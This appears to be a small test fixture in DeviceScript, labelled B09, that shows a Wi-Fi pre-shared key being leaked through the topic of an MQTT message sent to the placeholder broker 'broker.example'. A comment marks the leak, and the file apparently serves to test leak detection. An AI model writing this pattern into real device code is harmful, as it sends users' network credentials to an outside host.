// B09: in the topic of an MQTT message.
import { startMQTTClient } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const mqtt = await startMQTTClient({ host: "broker.example", proto: "tls", port: 8883 });
  await mqtt.publish(`home/${psk}/state`, Buffer.from("on")); // leak: wifi.psk
});
